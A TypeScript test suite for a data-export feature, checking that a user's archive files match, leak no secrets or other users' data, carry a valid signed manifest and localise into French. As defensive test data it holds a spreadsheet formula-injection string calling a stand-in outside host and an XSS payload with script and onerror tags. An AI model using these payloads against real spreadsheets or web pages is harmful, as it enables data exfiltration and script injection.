// Catalogue: I7, I8, B4; promise M4.
import { createHash, createPublicKey, verify, type JsonWebKey } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { SignInDocument, UpdateProfileDocument } from '@socle/schema/documents';
import { newestLink } from '#platform/journal/rows.js';
import { archiveOf, rowsIn, textIn, type Unpacked } from '#test/archive.js';
import { goodPassword } from '#test/builders.js';
import { cellsIn } from '#test/csv.js';
import { manyEvents } from '#test/events.js';
import { openTestHouse, type Person, type TestHouse } from '#test/house.js';
import { aRecord, keep } from '#test/threats/vault-file.js';

const formula = '=HYPERLINK("https://x.invalid/?"&A1,"open")';
const markup = '<script>alert(1)</script><img src=x onerror=alert(2)>"\'&';

let house: TestHouse;
beforeAll(async () => {
  house = await openTestHouse();
});
afterAll(() => house.close());

const changeProfile = ({ caller }: Person, input: { bio?: string; locale?: 'EN' | 'FR' }): Promise<unknown> =>
  caller.run(UpdateProfileDocument, { input });

const datasets = [
  ...['profile', 'rights', 'tokens', 'sessions', 'ways-to-sign-in', 'deletion', 'personal-data'],
  ...['activity', 'background-work'],
];

/** What the making itself records may come too late for what it makes. */
const ofTheMaking: readonly unknown[] = ['vault.read', 'data.exported'];

const activityIn = (files: Unpacked) => rowsIn(files, 'activity').filter(({ event }) => !ofTheMaking.includes(event));

describe('an archive', () => {
  let person: Person;
  let admin: Person;
  let files: Unpacked;
  let recorded: string[];
  beforeAll(async () => {
    person = await house.person();
    admin = await house.person('admin');
    await house.signIn(person, formula);
    await changeProfile(person, { bio: `${markup}, "two"\nlines` });
    await house.visitor().run(SignInDocument, { input: { identifier: person.pseudo, password: 'not the right one' } });
    await admin.caller.send(
      'mutation ($id: ID!) { grantScope(userId: $id, scope: "users:read", until: "2040-01-01T00:00:00.000Z") { id } }',
      { id: person.id },
    );
    await keep(person);
    recorded = await house.eventsOf(async () => (files = await archiveOf(house, person)));
  });

  it('is told to the journal once it is ready, after the reading of what the vault keeps', () =>
    expect(recorded).toEqual(['vault.read', 'data.exported']));

  it('has every dataset twice, a page, and a signed list', () =>
    expect([...files.keys()]).toEqual([
      ...datasets.flatMap((name) => [`data/${name}.json`, `data/${name}.csv`]),
      ...['index.html', 'manifest.json', 'manifest.sig'],
    ]));

  it.each(datasets)('says the same of %s in both files', (name) => {
    const [names = [], ...lines] = cellsIn(textIn(files, `data/${name}.csv`).replace(/^\u{feff}/u, ''));
    const rows = rowsIn(files, name);
    expect(lines.length).toBe(rows.length);
    for (const [index, row] of rows.entries()) {
      expect(Object.keys(row)).toEqual(names);
      const cells = lines[index]?.map((cell) => cell.replace(/^'(?=[=+])/, ''));
      expect(cells).toEqual(Object.values(row).map((value) => (value === null ? '' : String(value))));
    }
  });

  it('tells who the person is', () =>
    expect(rowsIn(files, 'profile')).toMatchObject([
      {
        ...{ id: person.id, pseudo: person.pseudo, 'e-mail': person.email, 'e-mail verified': false },
        ...{ bio: `${markup}, "two"\nlines`, language: 'EN', role: 'member', status: 'ACTIVE' },
      },
    ]));

  it('tells their sessions, rights and ways to sign in', () => {
    expect(rowsIn(files, 'sessions')).toMatchObject([
      { 'IP address': '127.0.0.1', 'why it ended': null },
      { device: formula, 'IP address': '127.0.0.1' },
    ]);
    expect(rowsIn(files, 'rights')).toMatchObject([{ right: 'users:read', 'ends at': '2040-01-01T00:00:00.000Z' }]);
    expect(rowsIn(files, 'ways-to-sign-in')).toMatchObject([{ kind: 'password' }]);
  });

  it('tells what the vault keeps of them', () => {
    const { legalName, birthDate, phone, taxId } = aRecord;
    expect(rowsIn(files, 'personal-data')).toMatchObject([
      { 'full legal name': legalName, 'day of birth': birthDate, telephone: phone, 'tax number': taxId },
    ]);
  });

  it('tells what they did and what was done to their account, newest first, and who that was as far as it is theirs', () => {
    const activity = activityIn(files).map(({ event, by }) => [event, by]);
    expect(activity).toEqual([
      ['vault.changed', 'you'],
      ['user.scope_granted', 'somebody else'],
      ['login.failed', 'nobody signed in'],
      ['user.profile_changed', 'you'],
      ['session.opened', 'you'],
      ['session.opened', 'you'],
      ['user.registered', 'you'],
    ]);
    expect(rowsIn(files, 'activity').find(({ event }) => event === 'login.failed')?.['network']).toBe('127.0.0.0/24');
    expect(activityIn(files)[1]).toMatchObject({
      about: `user:${person.id}`,
      details: 'scope: users:read; until: 2040-01-01T00:00:00.000Z',
    });
  });

  it('tells the same activity as the page of it', async () => {
    const { data } = await person.caller.send<{ myActivity: { edges: { node: { event: string } }[] } }>(
      '{ myActivity(first: 50) { edges { node { at event: type about: subject network: ipAddress request: requestId } } } }',
    );
    const shown = data?.myActivity.edges.map(({ node }) => node) ?? [];
    expect(activityIn(files)).toMatchObject(shown.filter(({ event }) => !ofTheMaking.includes(event)));
  });

  it('holds nothing of anybody else', () => {
    for (const content of files.values())
      for (const other of [admin.id, admin.pseudo, admin.email]) expect(content.includes(other)).toBe(false);
  });

  it('holds no secret column, and no token', async () => {
    const { reader } = house.app.database;
    const secrets = await Promise.all([
      reader.one<{ password_hash: string }>('select * from credential where user_id = ?', [person.id]),
      reader.one<{ sealed_key: Uint8Array }>('select * from session where user_id = ?', [person.id]),
      house.app.vault.reader.one<{ wrapped: Uint8Array }>('select * from data_key where user_id = ?', [person.id]),
    ]);
    const forms = (bytes: Uint8Array = new Uint8Array()): string[] =>
      ['hex', 'base64', 'base64url'].map((form) => Buffer.from(bytes).toString(form as BufferEncoding));
    const canaries = [
      goodPassword,
      secrets[0]?.password_hash ?? '',
      ...forms(secrets[1]?.sealed_key),
      ...forms(secrets[2]?.wrapped),
      person.caller.accessToken ?? '',
      person.caller.cookies.get('socle_rt') ?? '',
    ];
    for (const canary of canaries) {
      expect(canary.length).toBeGreaterThan(20);
      for (const [name, content] of files) expect(content.includes(canary), name).toBe(false);
    }
    const columns = datasets.flatMap((name) => Object.keys(rowsIn(files, name)[0] ?? {}));
    expect(columns.filter((column) => /hash|sealed|key|secret|generation|token/i.test(column))).toEqual([]);
  });

  it('runs nothing, neither in a spreadsheet program nor in a browser', () => {
    const csv = cellsIn(textIn(files, 'data/sessions.csv').replace(/^\u{feff}/u, ''));
    expect(csv.flat()).toContain(`'${formula}`);
    const page = textIn(files, 'index.html');
    expect(page).toContain('&lt;script&gt;alert(1)&lt;/script&gt;&lt;img src=x onerror=alert(2)&gt;&quot;&#39;&amp;');
    expect(page).not.toMatch(/<script|<img|onerror=alert\(2\)>|javascript:/i);
    expect(page).toContain(`content="default-src 'none'; style-src 'unsafe-inline'"`);
  });

  it('lists every other file by length and hash, signed by the house', async () => {
    const manifest = files.get('manifest.json') ?? Buffer.alloc(0);
    const list = JSON.parse(manifest.toString()) as {
      files: { name: string; bytes: number; sha256: string }[];
      person: string;
      instance: string;
    };
    expect(list).toMatchObject({
      format: 'socle-export',
      version: 1,
      person: person.id,
      instance: 'http://localhost:4000',
    });
    expect(list.files.map(({ name }) => name)).toEqual([...files.keys()].slice(0, -2));
    for (const { name, bytes, sha256 } of list.files) {
      const content = files.get(name) ?? Buffer.alloc(0);
      expect([content.length, createHash('sha256').update(content).digest('hex')]).toEqual([bytes, sha256]);
    }
    const [header = '', payload, signature = ''] = textIn(files, 'manifest.sig').split('.');
    const { alg, kid } = JSON.parse(Buffer.from(header, 'base64url').toString()) as { alg: string; kid: string };
    const jwks = (await house.app.http.inject('/.well-known/jwks.json')).json<{
      keys: (JsonWebKey & { kid: string })[];
    }>();
    const jwk = jwks.keys.find((one) => one.kid === kid);
    const key = createPublicKey({ key: jwk ?? {}, format: 'jwk' });
    const signed = (content: Buffer): boolean =>
      verify(
        'sha256',
        Buffer.from(`${header}.${content.toString('base64url')}`),
        { key, dsaEncoding: 'ieee-p1363' },
        Buffer.from(signature, 'base64url'),
      );
    expect([alg, payload, signed(manifest), signed(Buffer.concat([manifest, Buffer.of(32)]))]).toEqual([
      'ES256',
      '',
      true,
      false,
    ]);
  });

  it('has a signature that is no access token', () => {
    const [header, , signature] = textIn(files, 'manifest.sig').split('.');
    const payload = Buffer.from(textIn(files, 'manifest.json')).toString('base64url');
    const forged = [header, payload, signature].join('.');
    expect(house.app.house.ports.signer.verify(forged, house.clock.now())).toBe('invalid');
  });

  it('leaves nothing of what it holds in the log', () => {
    const lines = house.lines.filter((line) => /"job\.|"file\.|"data\.|"vault\./.test(line)).join('\n');
    expect(lines).toContain('job.succeeded');
    for (const word of [person.pseudo, person.email, 'HYPERLINK', 'alert(1)', ...Object.values(aRecord)])
      expect(lines).not.toContain(word);
  });
});

describe('an archive for somebody who speaks French', () => {
  it('has its page and its tables in French, and what is for programs as ever', async () => {
    const person = await house.person();
    await changeProfile(person, { locale: 'FR' });
    const files = await archiveOf(house, person);
    const page = textIn(files, 'index.html');
    expect(cellsIn(textIn(files, 'data/rights.csv'))[0]?.slice(1)).toEqual(['accordé le', 'prend fin le']);
    expect(rowsIn(files, 'profile')).toMatchObject([{ language: 'FR' }]);
    expect(page).toContain('<html lang="fr">');
    expect(page).toContain('Vos appareils et sessions');
    expect(page).not.toContain('Your devices');
  });
});

describe('an archive of much', () => {
  it(
    'shows the first rows on the page, and has all of them in its files, in their order',
    { timeout: 60_000 },
    async () => {
      const person = await house.person();
      const many = 2_345;
      const { chain, database } = house.app;
      const newest = await newestLink(database.reader);
      database.load(manyEvents({ personId: person.id, chain, newest }, many, house.clock.now()));
      const files = await archiveOf(house, person);
      const requests = rowsIn(files, 'activity').flatMap(({ event, request }) =>
        event === 'session.refreshed' ? [request] : [],
      );
      expect(requests).toEqual(Array.from({ length: many }, (_, index) => `r${many - 1 - index}`));
      expect(cellsIn(textIn(files, 'data/activity.csv').slice(1))).toHaveLength(rowsIn(files, 'activity').length + 1);
      expect(textIn(files, 'index.html')).toContain('The first 100 are shown here');
    },
  );
});
